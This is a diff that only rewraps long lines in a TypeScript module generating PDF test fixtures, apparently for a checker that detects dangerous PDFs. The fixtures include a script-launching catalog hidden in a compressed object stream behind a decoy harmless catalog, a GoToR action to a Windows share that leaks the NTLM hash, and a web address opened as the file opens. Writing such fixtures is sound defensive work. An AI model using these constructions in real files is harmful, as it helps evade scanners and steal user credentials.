@@ -103,8 +103,16 @@ export const ENCODINGS: Record<string, Encoding> = {
   'abbreviated /RL': { filter: '/RL', encode: runLength },
   'an array [/Fl]': { filter: '[/Fl]', encode: flate },
   'a chain [/AHx /Fl]': { filter: '[/AHx /Fl]', encode: (d) => asciiHex(flate(d)) },
-  'FlateDecode with /Predictor 12': { filter: '/FlateDecode', parms: '<< /Predictor 12 >>', encode: (d) => flate(pngUp(d, 1)) },
-  'FlateDecode with /Predictor 12 and /Columns 4': { filter: '/FlateDecode', parms: '<< /Predictor 12 /Columns 4 >>', encode: (d) => flate(pngUp(d, 4)) },
+  'FlateDecode with /Predictor 12': {
+    filter: '/FlateDecode',
+    parms: '<< /Predictor 12 >>',
+    encode: (d) => flate(pngUp(d, 1)),
+  },
+  'FlateDecode with /Predictor 12 and /Columns 4': {
+    filter: '/FlateDecode',
+    parms: '<< /Predictor 12 /Columns 4 >>',
+    encode: (d) => flate(pngUp(d, 4)),
+  },
   // Filters no reader can apply to an object stream: whatever a viewer makes of them, the check
   // cannot read them, so it refuses them.
   'an image filter /DCT on an object stream': { filter: '/DCT', encode: flate },
@@ -126,7 +134,8 @@ function withXrefTable(objects: Map<number, Buffer>, root: number): Buffer {
   }
   const size = Math.max(...objects.keys()) + 1;
   let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
-  for (let n = 1; n < size; n++) xref += offsets.has(n) ? `${String(offsets.get(n)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n';
+  for (let n = 1; n < size; n++)
+    xref += offsets.has(n) ? `${String(offsets.get(n)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n';
   xref += `trailer\n<< /Size ${size} /Root ${root} 0 R >>\nstartxref\n${at}\n%%EOF\n`;
   parts.push(Buffer.from(xref, 'latin1'));
   return Buffer.concat(parts);
@@ -148,7 +157,16 @@ export function plainPdf(catalogExtra: string, content?: { filter: string; data:
     [2, Buffer.from(`<< /Type /Catalog /Pages 3 0 R ${catalogExtra} >>`, 'latin1')],
     [3, Buffer.from(PAGES, 'latin1')],
     [4, Buffer.from(PAGE, 'latin1')],
-    [5, content ? Buffer.concat([Buffer.from(`<< /Length ${content.data.length} /Filter ${content.filter} >>\nstream\n`, 'latin1'), content.data, Buffer.from('\nendstream', 'latin1')]) : contentStream()],
+    [
+      5,
+      content
+        ? Buffer.concat([
+            Buffer.from(`<< /Length ${content.data.length} /Filter ${content.filter} >>\nstream\n`, 'latin1'),
+            content.data,
+            Buffer.from('\nendstream', 'latin1'),
+          ])
+        : contentStream(),
+    ],
   ]);
   return withXrefTable(objects, 2);
 }
@@ -160,13 +178,23 @@ export function plainPdf(catalogExtra: string, content?: { filter: string; data:
  * the end of the file: a parser that reads objects in file order rather than through the
  * cross-reference finds a valid, harmless document.
  */
-export function pdfWithCatalogInObjectStream(encoding: Encoding, catalogExtra = `/OpenAction ${SCRIPT_ACTION}`): Buffer {
+export function pdfWithCatalogInObjectStream(
+  encoding: Encoding,
+  catalogExtra = `/OpenAction ${SCRIPT_ACTION}`,
+): Buffer {
   const catalog = `<< /Type /Catalog /Pages 3 0 R ${catalogExtra} >>`;
   const header = '2 0 ';
   const decoded = Buffer.from(`${header}${catalog}\n`, 'latin1');
   const data = encoding.encode(decoded);
   const parms = encoding.parms ? ` /DecodeParms ${encoding.parms}` : '';
-  const objStm = Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First ${header.length} /Filter ${encoding.filter}${parms} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
+  const objStm = Buffer.concat([
+    Buffer.from(
+      `<< /Type /ObjStm /N 1 /First ${header.length} /Filter ${encoding.filter}${parms} /Length ${data.length} >>\nstream\n`,
+      'latin1',
+    ),
+    data,
+    Buffer.from('\nendstream', 'latin1'),
+  ]);
 
   const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
   let at = parts[0]!.length;
@@ -190,13 +218,31 @@ export function pdfWithCatalogInObjectStream(encoding: Encoding, catalogExtra = 
     b.writeUInt16BE(field3, 5);
     return b;
   };
-  const rows = Buffer.concat([entry(0, 0, 65535), entry(1, offsets[1]!, 0), entry(2, 1, 0), entry(1, offsets[3]!, 0), entry(1, offsets[4]!, 0), entry(1, offsets[5]!, 0), entry(1, xrefAt, 0)]);
-  add(6, Buffer.concat([Buffer.from(`<< /Type /XRef /Size 7 /W [1 4 2] /Root 2 0 R /Length ${rows.length} >>\nstream\n`, 'latin1'), rows, Buffer.from('\nendstream', 'latin1')]));
-  parts.push(Buffer.from(`startxref\n${xrefAt}\n%%EOF\n2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n`, 'latin1'));
+  const rows = Buffer.concat([
+    entry(0, 0, 65535),
+    entry(1, offsets[1]!, 0),
+    entry(2, 1, 0),
+    entry(1, offsets[3]!, 0),
+    entry(1, offsets[4]!, 0),
+    entry(1, offsets[5]!, 0),
+    entry(1, xrefAt, 0),
+  ]);
+  add(
+    6,
+    Buffer.concat([
+      Buffer.from(`<< /Type /XRef /Size 7 /W [1 4 2] /Root 2 0 R /Length ${rows.length} >>\nstream\n`, 'latin1'),
+      rows,
+      Buffer.from('\nendstream', 'latin1'),
+    ]),
+  );
+  parts.push(
+    Buffer.from(`startxref\n${xrefAt}\n%%EOF\n2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n`, 'latin1'),
+  );
   return Buffer.concat(parts);
 }
 
 /** The file the report names: `/OpenAction` → GoToR to a Windows share (leaks the NTLM hash). */
-export const goToRSharePdf = () => plainPdf('/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\sk.pdf) /D [0 /Fit] >>');
+export const goToRSharePdf = () =>
+  plainPdf('/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\sk.pdf) /D [0 /Fit] >>');
 /** `/OpenAction` → a web address, opened as the file opens. */
 export const uriOnOpenPdf = () => plainPdf('/OpenAction << /S /URI /URI (https://contoh.invalid/jejak) >>');
